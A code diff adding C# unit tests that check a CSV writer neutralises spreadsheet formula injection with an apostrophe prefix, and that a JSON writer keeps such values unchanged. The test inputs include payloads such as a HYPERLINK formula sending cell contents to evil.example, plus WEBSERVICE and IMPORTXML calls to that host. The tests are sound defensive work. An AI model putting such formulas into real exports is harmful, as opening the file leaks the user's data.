@@ -79,6 +79,59 @@ public sealed class TableWriterTests
         Assert.Equal("id,ratio\nInfinity,\nNaN,\n0.12345,0.123\n", WriteCsv(table));
     }
 
+    [Theory]
+    [InlineData("=1+1")]
+    [InlineData("+1+1")]
+    [InlineData("-1+1")]
+    [InlineData("@SUM(A1)")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")")]
+    [InlineData("=WEBSERVICE(\"https://evil.example/\")")]
+    [InlineData("=IMPORTXML(\"https://evil.example/\",\"//a\")")]
+    public void Should_Prefix_A_Text_Or_List_Cell_That_Starts_A_Formula_With_An_Apostrophe(string formula)
+    {
+        var columns = new ColumnList<string>()
+            .Text("text", v => v)
+            .Word("status", Vocabularies.CommitmentStatus, _ => CommitmentStatus.Planned)
+            .List("list", v => [v, "b"]);
+        var table = new DataTable<string>("formulas", columns, [formula], ["text"]);
+
+        var row = Assert.Single(ReadCsv(WriteCsv(table)));
+
+        Assert.Equal("'" + formula, row["text"]);
+        Assert.Equal("planned", row["status"]);
+        Assert.Equal("'" + formula + ";b", row["list"]);
+    }
+
+    [Fact]
+    public void Should_Write_Negative_Numbers_Dates_And_Flags_As_They_Are()
+    {
+        var columns = new ColumnList<int>()
+            .Number("number", _ => -12.5)
+            .Integer("integer", _ => -3)
+            .Date("date", _ => PartialDate.TryParse("2025-06", out var d) ? d : null)
+            .Boolean("flag", _ => false);
+        var table = new DataTable<int>("numbers", columns, [0], ["number"]);
+
+        Assert.Equal("number,integer,date,flag\n-12.5,-3,2025-06,false\n", WriteCsv(table));
+    }
+
+    [Fact]
+    public void Should_Keep_A_Formula_As_It_Is_In_The_Json()
+    {
+        var columns = new ColumnList<string>().Text("text", v => v).List("list", v => [v]);
+        var table = new DataTable<string>("formulas", columns, ["=1+1", "\t@x"], ["text"]);
+        using var stream = new MemoryStream();
+
+        JsonTableWriter.Write(table, new DateOnly(2026, 6, 30), stream);
+
+        using var document = JsonDocument.Parse(stream.ToArray());
+        var records = document.RootElement.GetProperty("formulas").EnumerateArray().ToList();
+        Assert.Equal(["=1+1", "\t@x"], records.Select(r => r.GetProperty("text").GetString()));
+        Assert.Equal("=1+1", records[0].GetProperty("list")[0].GetString());
+    }
+
     private static DataTable<int> Table()
     {
         var columns = new ColumnList<int>()
@@ -88,6 +141,12 @@ public sealed class TableWriterTests
             .Date("date", i => i == 0 && PartialDate.TryParse("2025-06", out var d) ? d : null)
             .Boolean("flag", i => i == 0);
         return new DataTable<int>("test", columns, [.. Enumerable.Range(0, Hostile.Length)], ["value"]);
+    }
+
+    private static List<IDictionary<string, object>> ReadCsv(string text)
+    {
+        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
+        return [.. reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>()];
     }
 
     private static string WriteCsv(IDataTable table)
